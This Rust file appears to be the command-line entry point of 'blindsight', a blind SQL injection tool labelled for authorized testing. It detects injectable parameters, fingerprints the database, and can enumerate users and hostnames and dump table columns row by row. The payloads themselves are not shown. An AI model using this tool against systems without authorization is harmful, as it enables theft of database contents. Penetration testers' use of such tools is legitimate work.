use anyhow::{Context, Result};
use clap::Parser;
use colored::Colorize;
use std::io::Write;
use std::path::PathBuf;
use std::sync::Arc;
use tracing_subscriber::{layer::SubscriberExt, util::SubscriberInitExt};

use blindsight::core::config::{Metrics, ScanConfig};
use blindsight::core::error::EngineError;
use blindsight::core::paths::{multitarget_csv_path, SessionPaths};
use blindsight::detect::{Detection, DetectionPipeline};
use blindsight::enumerate::Enumerator;
use blindsight::fingerprint::Fingerprinter;
use blindsight::http::{ParamLocation, Parameter, RawRequest, Requester, ReqwestTransport, Target};
use blindsight::session::{SessionStore, SqliteStore};
use blindsight::tamper::{chain_from_config, TamperStage};

#[derive(Parser)]
#[command(name = "blindsight")]
#[command(about = "Blind SQL injection detection and data exfiltration engine\nFor authorized security testing only", long_about = None)]
struct Cli {
    /// Target URL (e.g. http://example.com/vuln.php?id=1)
    #[arg(short, long)]
    url: Option<String>,

    /// Load the HTTP request from a file (Burp/ZAP export)
    #[arg(short, long)]
    requestfile: Option<PathBuf>,

    /// POST data string (e.g. id=1&name=test)
    #[arg(long)]
    data: Option<String>,

    /// HTTP Cookie header value
    #[arg(long)]
    cookie: Option<String>,

    /// Extra header ("Name: value"), repeatable
    #[arg(short = 'H', long = "header")]
    headers: Vec<String>,

    /// Test only this parameter
    #[arg(short, long)]
    parameter: Option<String>,

    /// Optional TOML config file; CLI flags override it
    #[arg(long)]
    config: Option<PathBuf>,

    #[arg(long)]
    timeout: Option<f64>,
    #[arg(long)]
    delay: Option<f64>,
    #[arg(long)]
    timesec: Option<f64>,
    #[arg(long)]
    retry: Option<u32>,
    #[arg(long)]
    threads: Option<usize>,
    #[arg(long)]
    batch: bool,
    #[arg(long)]
    fresh_queries: bool,
    #[arg(long)]
    flush_session: bool,
    #[arg(long)]
    ignore_code: Option<String>,
    #[arg(long)]
    fetch_using: Option<String>,
    #[arg(long)]
    tamper: Option<String>,
    #[arg(long)]
    text_only: bool,
    #[arg(long)]
    string: Option<String>,
    #[arg(long)]
    not_string: Option<String>,
    #[arg(long)]
    code: Option<u16>,
    #[arg(long)]
    skip_urlencoding: bool,
    #[arg(long)]
    prioritize: bool,
    /// Technique subset, letters of EBT
    #[arg(long)]
    test_filter: Option<String>,
    #[arg(long)]
    proxy: Option<String>,
    #[arg(long)]
    continue_on_http_error: bool,

    /// Enumerations to run after confirmation
    #[arg(long)]
    banner: bool,
    #[arg(long)]
    current_user: bool,
    #[arg(long)]
    current_db: bool,
    #[arg(long)]
    hostname: bool,

    /// Schema scope for --columns/--count/--dump
    #[arg(short = 'D', long)]
    db: Option<String>,
    #[arg(short = 'T', long)]
    tbl: Option<String>,
    #[arg(short = 'C', long)]
    col: Option<String>,
    /// Enumerate column names of the -D/-T table
    #[arg(long)]
    columns: bool,
    /// Count records in the -D/-T table
    #[arg(long)]
    count: bool,
    /// Dump the -D/-T/-C column row by row
    #[arg(long)]
    dump: bool,

    #[arg(short, long)]
    verbose: bool,
}

impl Cli {
    fn into_config(self) -> Result<(ScanConfig, CliRest)> {
        let mut config = match &self.config {
            Some(path) => ScanConfig::load_or_default(path)?,
            None => ScanConfig::default(),
        };
        if let Some(v) = self.timeout {
            config.timeout = v;
        }
        if let Some(v) = self.delay {
            config.delay = v;
        }
        if let Some(v) = self.timesec {
            config.timesec = v;
        }
        if let Some(v) = self.retry {
            config.retry = v;
        }
        if let Some(v) = self.threads {
            config.threads = v;
        }
        if let Some(v) = self.ignore_code.clone() {
            config.ignore_code = v;
        }
        config.batch |= self.batch;
        config.fresh_queries |= self.fresh_queries;
        config.text_only |= self.text_only;
        config.skip_urlencoding |= self.skip_urlencoding;
        config.prioritize |= self.prioritize;
        config.continue_on_http_error |= self.continue_on_http_error;
        config.fetch_using = self.fetch_using.clone().or(config.fetch_using);
        config.tamper = self.tamper.clone().or(config.tamper);
        config.string = self.string.clone().or(config.string);
        config.not_string = self.not_string.clone().or(config.not_string);
        config.code = self.code.or(config.code);
        config.test_filter = self.test_filter.clone().or(config.test_filter);
        config.proxy = self.proxy.clone().or(config.proxy);

        let rest = CliRest {
            url: self.url,
            requestfile: self.requestfile,
            data: self.data,
            cookie: self.cookie,
            headers: self.headers,
            parameter: self.parameter,
            flush_session: self.flush_session,
            banner: self.banner,
            current_user: self.current_user,
            current_db: self.current_db,
            hostname: self.hostname,
            db: self.db,
            tbl: self.tbl,
            col: self.col,
            columns: self.columns,
            count: self.count,
            dump: self.dump,
            verbose: self.verbose,
        };
        Ok((config, rest))
    }
}

struct CliRest {
    url: Option<String>,
    requestfile: Option<PathBuf>,
    data: Option<String>,
    cookie: Option<String>,
    headers: Vec<String>,
    parameter: Option<String>,
    flush_session: bool,
    banner: bool,
    current_user: bool,
    current_db: bool,
    hostname: bool,
    db: Option<String>,
    tbl: Option<String>,
    col: Option<String>,
    columns: bool,
    count: bool,
    dump: bool,
    verbose: bool,
}

/// Read a yes/no answer; `batch` takes the default silently.
fn ask(question: &str, default_yes: bool, batch: bool) -> bool {
    if batch {
        return default_yes;
    }
    print!("{} [{}] ", question, if default_yes { "Y/n" } else { "y/N" });
    let _ = std::io::stdout().flush();
    let mut input = String::new();
    if std::io::stdin().read_line(&mut input).is_err() {
        return default_yes;
    }
    match input.trim().to_lowercase().as_str() {
        "" => default_yes,
        "y" | "yes" => true,
        _ => false,
    }
}

/// Collect targets: one per candidate parameter.
fn build_targets(config: &ScanConfig, rest: &CliRest) -> Result<Vec<Target>> {
    let mut targets = Vec::new();

    if let Some(path) = &rest.requestfile {
        let raw_text = std::fs::read_to_string(path)
            .with_context(|| format!("Failed to read request file: {}", path.display()))?;
        let raw = RawRequest::parse(&raw_text)?;
        for point in raw.injection_points() {
            if let Some(only) = &rest.parameter {
                if &point.key != only {
                    continue;
                }
            }
            targets.push(raw.target_for(point)?.with_skip_urlencoding(config.skip_urlencoding));
        }
        return Ok(targets);
    }

    let url = rest
        .url
        .clone()
        .ok_or_else(|| anyhow::anyhow!("a target is required: --url or --requestfile"))?;
    let mut headers: Vec<(String, String)> = Vec::new();
    for header in &rest.headers {
        if let Some((k, v)) = header.split_once(':') {
            headers.push((k.trim().to_string(), v.trim().to_string()));
        }
    }
    if let Some(cookie) = &rest.cookie {
        headers.push(("Cookie".to_string(), cookie.clone()));
    }
    let method = if rest.data.is_some() { "POST" } else { "GET" };

    let mut points: Vec<Parameter> = Vec::new();
    if url.split('?').next().map(|p| p.contains('*')).unwrap_or(false) {
        points.push(Parameter {
            key: blindsight::http::URI_SENTINEL_KEY.to_string(),
            value: String::new(),
            location: ParamLocation::Uri,
            is_injected: false,
        });
    }
    if let Some(query) = url.split('?').nth(1) {
        for pair in query.split('&').filter(|p| !p.is_empty()) {
            let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
            points.push(Parameter::new(k, v, ParamLocation::Get)?);
        }
    }
    if let Some(data) = &rest.data {
        for pair in data.split('&').filter(|p| !p.is_empty()) {
            let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
            points.push(Parameter::new(k, v, ParamLocation::Post)?);
        }
    }
    if let Some(cookie) = &rest.cookie {
        for pair in cookie.split(';') {
            let pair = pair.trim();
            if let Some((k, v)) = pair.split_once('=') {
                points.push(Parameter::new(k, v, ParamLocation::Cookie)?);
            }
        }
    }

    for point in points {
        if let Some(only) = &rest.parameter {
            if &point.key != only {
                continue;
            }
        }
        let mut target = Target::new(url.clone(), method, point)?
            .with_headers(headers.clone())
            .with_skip_urlencoding(config.skip_urlencoding);
        if let Some(data) = &rest.data {
            target = target.with_body(data.clone());
        }
        targets.push(target);
    }
    Ok(targets)
}

async fn run(config: Arc<ScanConfig>, rest: CliRest) -> Result<i32> {
    let targets = build_targets(&config, &rest)?;
    if targets.is_empty() {
        eprintln!("{} no testable parameter found", "[-]".red());
        return Ok(1);
    }

    let first_url = targets[0].url.clone();
    let paths = SessionPaths::for_target(&first_url, rest.flush_session)?;
    paths.write_target_line(&first_url, &targets[0].method)?;

    let scan_id = uuid::Uuid::new_v4();
    paths.log_line(&format!("scan {} started against {}", scan_id, first_url))?;
    tracing::debug!("scan id {}", scan_id);

    let store: Arc<dyn SessionStore> = Arc::new(SqliteStore::connect(&paths.session).await?);
    store.init().await?;

    let metrics = Arc::new(Metrics::new());
    let transport = Arc::new(ReqwestTransport::new(&config)?);
    let requester = Arc::new(Requester::new(transport, config.clone(), metrics.clone())?);
    let pipeline = DetectionPipeline::new(requester.clone(), store.clone(), config.clone());

    // several parameters under test: collect one CSV row per confirmed point
    let csv_path = if targets.len() > 1 { Some(multitarget_csv_path()?) } else { None };

    let mut injectable = false;
    let mut unreachable = false;

    for mut target in targets {
        let name = target.parameter.display_name();
        if target.parameter.location == ParamLocation::Cookie && !config.skip_urlencoding {
            target.encode_cookie = ask("URL-encode cookie values?", true, config.batch);
        }

        paths.log_line(&format!("testing parameter {}", name))?;
        let outcome = match pipeline.run(&target).await {
            Ok(outcome) => outcome,
            Err(EngineError::TargetUnreachable(e)) => {
                eprintln!("{} target unreachable: {}", "[-]".red(), e);
                unreachable = true;
                break;
            }
            Err(e) if e.is_fatal() => {
                eprintln!("{} {}", "[-]".red(), e);
                return Ok(1);
            }
            Err(e) => {
                tracing::warn!("parameter {} failed: {}", name, e);
                continue;
            }
        };

        let Some(detection) = outcome.detection() else {
            continue;
        };
        let mut detection = detection.clone();
        injectable = true;
        paths.log_line(&format!("parameter {} is vulnerable", name))?;
        println!(
            "{} parameter '{}' is vulnerable ({})",
            "[+]".green(),
            name.bright_white(),
            detection
                .vectors
                .iter()
                .map(|v| v.vector.kind.label())
                .collect::<Vec<_>>()
                .join(", ")
        );

        // fingerprint once a truth oracle exists
        if detection.backend.is_none() {
            if let (Some(confirmed), Some(oracle)) =
                (detection.inference_vector().cloned(), detection.oracle(config.timesec))
            {
                let names = config.tamper_names();
                let chain = chain_from_config(
                    names.as_deref(),
                    TamperStage::Injection,
                    Some(confirmed.vector.kind),
                )?;
                let prepared = confirmed.vector.prepared();
                match Fingerprinter::new(&requester, &target, &prepared, &oracle, &chain)
                    .run()
                    .await
                {
                    Ok(result) => detection.backend = Some(result.dbms),
                    Err(EngineError::DbmsUnknown) => {
                        tracing::warn!("could not fingerprint back-end DBMS reliably")
                    }
                    Err(e) => return Err(e.into()),
                }
            }
        }
        if let Some(backend) = detection.backend {
            println!("{} back-end DBMS: {}", "[*]".bright_cyan(), backend.to_string().bright_white());
        }

        if let Some(path) = &csv_path {
            append_result_row(path, &target, &detection)?;
        }

        let enumerator = Enumerator::new(&requester, store.clone(), &config, &target, &detection);
        for (wanted, label, task) in [
            (rest.banner, "banner", EnumTask::Banner),
            (rest.current_user, "current user", EnumTask::CurrentUser),
            (rest.current_db, "current database", EnumTask::CurrentDb),
            (rest.hostname, "hostname", EnumTask::Hostname),
        ] {
            if !wanted {
                continue;
            }
            match task.run(&enumerator).await {
                Ok(value) => {
                    println!("{} {}: {}", "[*]".bright_cyan(), label, value.bright_white());
                    paths.log_line(&format!("{}: {}", label, value))?;
                }
                Err(EngineError::ExtractionIncomplete { value, got, expected }) => {
                    eprintln!(
                        "{} {} incomplete ({}/{} characters): {}",
                        "[!]".yellow(),
                        label,
                        got,
                        expected,
                        value
                    );
                }
                Err(e) => eprintln!("{} failed to retrieve {}: {}", "[!]".yellow(), label, e),
            }
        }

        if rest.columns || rest.count || rest.dump {
            match (rest.db.as_deref(), rest.tbl.as_deref()) {
                (Some(db), Some(tbl)) => {
                    walk_schema(&enumerator, &paths, &rest, db, tbl).await?;
                }
                _ => eprintln!(
                    "{} --columns/--count/--dump require -D <db> and -T <table>",
                    "[-]".red()
                ),
            }
        }

        if !ask("Continue testing other parameters (if any)?", false, config.batch) {
            break;
        }
    }

    if unreachable && !injectable {
        return Ok(2);
    }
    if !injectable {
        println!("{} no injectable parameter found", "[-]".red());
        return Ok(1);
    }
    println!(
        "{} done, {} requests issued",
        "[*]".bright_cyan(),
        metrics.snapshot().requests
    );
    Ok(0)
}

/// Schema walk over the confirmed vector: column names, record count and a
/// row-by-row dump of one column, each resumable through the session store.
async fn walk_schema(
    enumerator: &Enumerator<'_>,
    paths: &SessionPaths,
    rest: &CliRest,
    db: &str,
    tbl: &str,
) -> Result<()> {
    if rest.columns {
        match enumerator.column_count(db, tbl).await {
            Ok(total) => {
                println!("{} {}.{}: {} columns", "[*]".bright_cyan(), db, tbl, total);
                for offset in 0..total {
                    match enumerator.column_name(db, tbl, offset).await {
                        Ok(name) => println!("{}   {}", "›".bright_black(), name.bright_white()),
                        Err(e) => {
                            eprintln!("{} column {} failed: {}", "[!]".yellow(), offset, e)
                        }
                    }
                }
                paths.log_line(&format!("{}.{}: {} columns", db, tbl, total))?;
            }
            Err(e) => eprintln!("{} column count failed: {}", "[!]".yellow(), e),
        }
    }

    if rest.count {
        match enumerator.record_count(db, tbl).await {
            Ok(rows) => {
                println!("{} {}.{}: {} records", "[*]".bright_cyan(), db, tbl, rows);
                paths.log_line(&format!("{}.{}: {} records", db, tbl, rows))?;
            }
            Err(e) => eprintln!("{} record count failed: {}", "[!]".yellow(), e),
        }
    }

    if rest.dump {
        let Some(col) = rest.col.as_deref() else {
            eprintln!("{} --dump requires -C <column>", "[-]".red());
            return Ok(());
        };
        let rows = match enumerator.record_count(db, tbl).await {
            Ok(rows) => rows,
            Err(e) => {
                eprintln!("{} record count failed: {}", "[!]".yellow(), e);
                return Ok(());
            }
        };
        println!("{} dumping {}.{}.{} ({} rows)", "[*]".bright_cyan(), db, tbl, col, rows);
        for row in 0..rows {
            match enumerator.dump_cell(db, tbl, col, row).await {
                Ok(cell) => {
                    println!("{}   [{}] {}", "›".bright_black(), row, cell.bright_white());
                    paths.log_line(&format!("dump {}.{}.{}[{}]: {}", db, tbl, col, row, cell))?;
                }
                Err(e) => eprintln!("{} row {} failed: {}", "[!]".yellow(), row, e),
            }
        }
    }
    Ok(())
}

fn append_result_row(path: &std::path::Path, target: &Target, detection: &Detection) -> Result<()> {
    let fresh = !path.exists();
    let mut file = std::fs::OpenOptions::new().create(true).append(true).open(path)?;
    if fresh {
        writeln!(file, "url,parameter,technique,backend,payload")?;
    }
    let best = detection.best_vector();
    writeln!(
        file,
        "{},{},{},{},{}",
        csv_field(&target.url),
        csv_field(&target.parameter.display_name()),
        csv_field(best.vector.kind.label()),
        csv_field(&detection.backend.map(|d| d.name().to_string()).unwrap_or_default()),
        csv_field(&best.payload),
    )?;
    Ok(())
}

fn csv_field(value: &str) -> String {
    format!("\"{}\"", value.replace('"', "\"\""))
}

enum EnumTask {
    Banner,
    CurrentUser,
    CurrentDb,
    Hostname,
}

impl EnumTask {
    async fn run(&self, e: &Enumerator<'_>) -> blindsight::Result<String> {
        match self {
            EnumTask::Banner => e.banner().await,
            EnumTask::CurrentUser => e.current_user().await,
            EnumTask::CurrentDb => e.current_db().await,
            EnumTask::Hostname => e.hostname().await,
        }
    }
}

#[tokio::main]
async fn main() -> Result<()> {
    let cli = Cli::parse();
    let verbose = cli.verbose;

    let filter = tracing_subscriber::EnvFilter::try_from_default_env()
        .unwrap_or_else(|_| {
            if verbose {
                tracing_subscriber::EnvFilter::new("blindsight=debug")
            } else {
                tracing_subscriber::EnvFilter::new("blindsight=info")
            }
        });
    tracing_subscriber::registry()
        .with(filter)
        .with(tracing_subscriber::fmt::layer().with_target(false))
        .init();

    let (mut config, rest) = cli.into_config()?;
    if let Err(e) = config.validate() {
        eprintln!("{} {}", "[-]".red(), e);
        std::process::exit(1);
    }

    let code = run(Arc::new(config), rest).await?;
    std::process::exit(code);
}
